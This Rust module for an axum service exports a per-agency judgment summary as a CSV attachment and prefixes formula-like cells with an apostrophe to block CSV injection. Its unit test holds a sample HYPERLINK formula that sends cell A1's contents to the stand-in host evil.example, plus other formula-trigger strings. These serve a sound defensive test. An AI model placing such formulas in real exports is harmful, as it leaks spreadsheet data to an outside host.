//! CSV downloads: a table written with the `csv` crate, sent as an attachment. Every cell that a
//! spreadsheet would read as a formula is defused first.

use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};

use crate::domain::JudgmentSummary;
use crate::error::Result;

/// A header row and the rows under it.
pub struct Table {
    pub header: Vec<&'static str>,
    pub rows: Vec<Vec<String>>,
}

/// The half-year judgment summary, as both the API and the reports page download it.
pub fn judgment_table(summary: &[JudgmentSummary]) -> Table {
    Table {
        header: vec![
            "agency_id",
            "agency",
            "unpaid_count",
            "outstanding_fen",
            "paid_in_period_fen",
        ],
        rows: summary
            .iter()
            .map(|row| {
                vec![
                    row.agency_id.to_string(),
                    row.agency.clone(),
                    row.unpaid_count.to_string(),
                    row.outstanding_fen.to_string(),
                    row.paid_in_period_fen.to_string(),
                ]
            })
            .collect(),
    }
}

/// A cell as text a spreadsheet shows and never runs: Excel and its kin treat a cell beginning
/// with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (OWASP's CSV injection), so such
/// a cell gets a leading apostrophe. Negative numbers are ours, not users', and stay as they are.
fn defused(cell: &str) -> std::borrow::Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
        || (cell.starts_with('-') && cell.parse::<f64>().is_err());
    if formula {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// # Errors
/// Only if writing to memory fails.
pub fn attachment(filename: &str, table: &Table) -> Result<Response> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record(&table.header)
        .map_err(anyhow::Error::from)?;
    for row in &table.rows {
        let cells = row.iter().map(|cell| defused(cell).into_owned());
        writer.write_record(cells).map_err(anyhow::Error::from)?;
    }
    let body = writer
        .into_inner()
        .map_err(|e| anyhow::anyhow!("writing CSV: {e}"))?;
    let mut response = body.into_response();
    let headers = response.headers_mut();
    headers.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    let disposition = format!("attachment; filename=\"{filename}\"");
    if let Ok(value) = HeaderValue::from_str(&disposition) {
        headers.insert(header::CONTENT_DISPOSITION, value);
    }
    Ok(response)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_numbers_kept() {
        assert_eq!(
            defused("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")"
        );
        for hostile in ["+1+1", "@SUM(A1)", "-2+3", "\tx", "\r=1"] {
            assert!(defused(hostile).starts_with('\''), "{hostile}");
        }
        assert_eq!(defused("-1250"), "-1250");
        assert_eq!(defused("示范市教育局"), "示范市教育局");
    }
}
